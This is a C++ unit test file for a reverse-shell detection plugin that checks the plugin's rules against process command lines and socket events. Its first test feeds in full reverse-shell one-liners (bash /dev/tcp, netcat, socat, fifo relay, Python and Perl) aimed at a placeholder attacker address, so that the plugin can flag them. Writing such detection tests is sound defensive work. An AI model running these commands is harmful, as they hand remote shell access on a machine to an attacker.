// SPDX-License-Identifier: Apache-2.0
// plugins/reverse_shell: process and socket events in, reverse_shell.* findings out.
#include <catch2/catch.hpp>

#include "plugin_driver.hpp"

using pg::test::plugin_driver;
using pg::test::process;
using pg::test::socket;

namespace {

std::string rule_for(const std::string& comm, const std::string& cmdline) {
  plugin_driver d("reverse_shell.so");
  d.feed({process(100, comm, "/usr/bin/" + comm, cmdline)});
  return d.ctx.findings.empty() ? std::string("none") : d.ctx.findings[0].rule;
}

} // namespace

SCENARIO("reverse-shell one-liners are recognised on the command line", "[plugins][revshell]") {
  CHECK(rule_for("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") == "reverse_shell.dev_tcp");
  CHECK(rule_for("nc", "nc -e /bin/sh 203.0.113.9 4444") == "reverse_shell.netcat_exec");
  CHECK(rule_for("ncat", "/usr/bin/ncat 203.0.113.9 4444 --sh-exec bash") ==
        "reverse_shell.netcat_exec");
  CHECK(rule_for("socat", "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.9:4444") ==
        "reverse_shell.socat_exec");
  CHECK(rule_for("sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 "
                       "4444 >/tmp/f") == "reverse_shell.fifo_relay");
  CHECK(rule_for("python3",
                 "python3 -c import socket,subprocess,os;s=socket.socket();"
                 "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);"
                 "import pty;pty.spawn(\"/bin/sh\")") == "reverse_shell.interpreter_oneliner");
  CHECK(rule_for("perl", "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);"
                         "exec(\"/bin/sh -i\");") == "reverse_shell.interpreter_oneliner");
  // Look-alikes that are not reverse shells.
  CHECK(rule_for("nc", "nc -zv db.internal 5432") == "none");
  CHECK(rule_for("bash", "bash -c ls -la /tmp") == "none");
  CHECK(rule_for("python3", "python3 -m http.server 8000") == "none");
  CHECK(rule_for("socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80") == "none");
}

SCENARIO("a one-liner finding carries the process and ATT&CK ids", "[plugins][revshell]") {
  plugin_driver d("reverse_shell.so");
  d.feed({process(4321, "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")});
  REQUIRE(d.ctx.findings.size() == 1);
  const auto& f = d.ctx.findings[0];
  CHECK(f.level == pg::runtime::severity::critical);
  CHECK(f.entity["pid"] == 4321);
  CHECK(f.entity["comm"] == "bash");
  CHECK(f.evidence["cmdline"] == "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
  CHECK(f.mitre == std::vector<std::string>{"T1059"});
}

SCENARIO("a shell holding a remote connection is a reverse shell", "[plugins][revshell]") {
  plugin_driver d("reverse_shell.so");
  GIVEN("a bash process seen by procfs") {
    d.feed({process(200, "bash", "/usr/bin/bash", "bash")});
    WHEN("a socket event says it owns an established connection to a remote host") {
      d.feed({socket(200, "203.0.113.9")});
      THEN("reverse_shell.shell_socket names the shell and the peer") {
        REQUIRE(d.ctx.findings.size() == 1);
        const auto& f = d.ctx.findings[0];
        CHECK(f.rule == "reverse_shell.shell_socket");
        CHECK(f.level == pg::runtime::severity::high);
        CHECK(f.entity["pid"] == 200);
        CHECK(f.entity["exe"] == "/usr/bin/bash");
        CHECK(f.evidence["remote_address"] == "203.0.113.9");
        CHECK(f.evidence["remote_port"] == 4444);
        CHECK(f.mitre == std::vector<std::string>{"T1059", "T1071"});
      }
      AND_WHEN("the same connection shows up in the next scan") {
        d.feed({socket(200, "203.0.113.9")});
        THEN("it is not reported again") {
          CHECK(d.ctx.findings.size() == 1);
        }
      }
    }
    WHEN("the socket is the shell's stdin") {
      auto s = socket(200, "203.0.113.9");
      s.set("fd", std::int64_t{0});
      d.feed({s});
      THEN("reverse_shell.stdio_socket, critical") {
        REQUIRE(d.ctx.findings.size() == 1);
        CHECK(d.ctx.findings[0].rule == "reverse_shell.stdio_socket");
        CHECK(d.ctx.findings[0].level == pg::runtime::severity::critical);
        CHECK(d.ctx.findings[0].evidence["fd"] == 0);
      }
    }
    WHEN("the connection is to loopback, listening, or a unix socket") {
      d.feed({socket(200, "127.0.0.1"), socket(200, "203.0.113.9", "LISTEN"),
              socket(200, "203.0.113.9", "ESTABLISHED", "unix")});
      THEN("nothing is reported") {
        CHECK(d.ctx.findings.empty());
      }
    }
    WHEN("the shell exited before the socket event") {
      d.feed({process(200, "bash", "/usr/bin/bash", "bash", "process_exit"),
              socket(200, "203.0.113.9")});
      THEN("the pid is no longer known as a shell") {
        CHECK(d.ctx.findings.empty());
      }
    }
  }
  GIVEN("a socket event that carries the owner's comm itself") {
    auto s = socket(300, "198.51.100.4");
    s.set("comm", std::string("sh")).set("exe", std::string("/usr/bin/dash"));
    d.feed({s});
    THEN("no earlier process event is needed") {
      REQUIRE(d.ctx.findings.size() == 1);
      CHECK(d.ctx.findings[0].entity["comm"] == "sh");
    }
  }
  GIVEN("a non-shell process with a remote connection") {
    d.feed({process(400, "curl", "/usr/bin/curl", "curl https://example.org"),
            socket(400, "93.184.216.34")});
    THEN("nothing is reported") {
      CHECK(d.ctx.findings.empty());
    }
  }
}

SCENARIO("loopback shells are reported when ignore_loopback is off", "[plugins][revshell]") {
  toml::table cfg;
  cfg.insert("ignore_loopback", false);
  plugin_driver d("reverse_shell.so", cfg);
  d.feed({process(200, "zsh", "/usr/bin/zsh", "zsh"), socket(200, "127.0.0.1")});
  REQUIRE(d.ctx.findings.size() == 1);
  CHECK(d.ctx.findings[0].rule == "reverse_shell.shell_socket");
}
